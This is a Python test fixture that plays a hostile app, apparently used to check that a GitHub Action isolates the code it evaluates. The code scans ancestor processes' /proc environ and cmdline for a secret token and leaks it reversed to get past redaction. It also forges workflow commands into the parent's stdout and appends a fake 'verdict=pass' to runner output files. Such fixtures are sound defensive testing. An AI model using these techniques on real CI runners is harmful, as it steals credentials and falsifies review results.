"""A hostile command app, as `app: {type: command, command: [python3, hostile_app.py]}` runs it.

It answers every case (from ``HOSTILE_TRACES``, a JSONL of traces), and on the way tries what an
app under review could try against the action that runs it:

* read ``/proc/<pid>/environ`` and ``/proc/<pid>/cmdline`` of every ancestor up to pid 1, looking
  for the token (``HOSTILE_NEEDLE``), and put whatever it finds, reversed, into its answers (the
  action's redaction only knows the token as it is);
* write workflow commands to its stderr (``::error::``, ``::add-mask::``, ``::stop-commands::``,
  the older ``##[`` form), and straight into its parent's stdout (``/proc/<ppid>/fd/1``);
* append ``verdict=pass`` to the files named in ``HOSTILE_FILES`` (the runner's GITHUB_OUTPUT).

What each attempt gave is written as JSON to ``HOSTILE_REPORT`` (a folder it may write), for the
test to read: never the token itself, only whether it was seen.
"""

import json
import os
import sys


def _ancestors() -> list[int]:
    chain, pid = [], os.getppid()
    while pid > 0 and len(chain) < 50:
        chain.append(pid)
        try:
            with open(f"/proc/{pid}/stat", encoding="utf-8") as fh:
                pid = int(fh.read().rsplit(")", 1)[1].split()[1])
        except OSError:
            break
    return chain


def _read(path: str) -> bytes | str:
    try:
        with open(path, "rb") as fh:
            return fh.read()
    except OSError as exc:
        return type(exc).__name__


def _append(path: str, text: str) -> str:
    try:
        with open(path, "a", encoding="utf-8") as fh:
            fh.write(text)
        return "written"
    except OSError as exc:
        return type(exc).__name__


def spy() -> tuple[dict, str]:
    needle = os.environ.get("HOSTILE_NEEDLE", "").encode()
    report: dict = {"uid": os.getuid(), "gid": os.getgid(), "groups": os.getgroups(), "home": os.environ.get("HOME"),
                    "env_names": sorted(os.environ), "ancestors": []}
    stolen = ""
    for pid in _ancestors():
        seen = {"pid": pid}
        for what in ("environ", "cmdline"):
            data = _read(f"/proc/{pid}/{what}")
            if isinstance(data, str):
                seen[what] = data                       # the error: PermissionError …
            else:
                seen[what] = "read"
                seen[what + "_has_token"] = bool(needle) and needle in data
                for item in data.split(b"\0"):
                    if needle and needle in item:
                        stolen = item.decode(errors="replace")[::-1]
        report["ancestors"].append(seen)
    report["parent_stdout"] = _append(f"/proc/{os.getppid()}/fd/1", "::error::FORGED-parent-stdout\n")
    report["files"] = {p: _append(p, "verdict=pass\n") for p in filter(None, os.environ.get("HOSTILE_FILES", "").split(":"))}
    return report, stolen


def main() -> None:
    report, stolen = spy()
    sys.stderr.write("::error::FORGED-stderr\n::add-mask::RAG\n##[warning]FORGED-old\n::stop-commands::X\n"
                     "  ::error title=t::FORGED-after-stop\n")
    sys.stderr.flush()
    with open(os.path.join(os.environ["HOSTILE_REPORT"], f"report-{os.getpid()}.json"), "w", encoding="utf-8") as fh:
        json.dump(report, fh)
    with open(os.environ["HOSTILE_TRACES"], encoding="utf-8") as fh:
        traces = {t["id"]: t for t in map(json.loads, fh)}
    for line in sys.stdin:
        request = json.loads(line)
        trace = dict(traces.get(request["id"]) or {"id": request["id"], "error": "no trace"})
        if stolen and trace.get("answer"):
            trace["answer"] = f"{trace['answer']} [{stolen}]"
        sys.stdout.write(json.dumps(trace, ensure_ascii=False) + "\n")
        sys.stdout.flush()


if __name__ == "__main__":
    main()
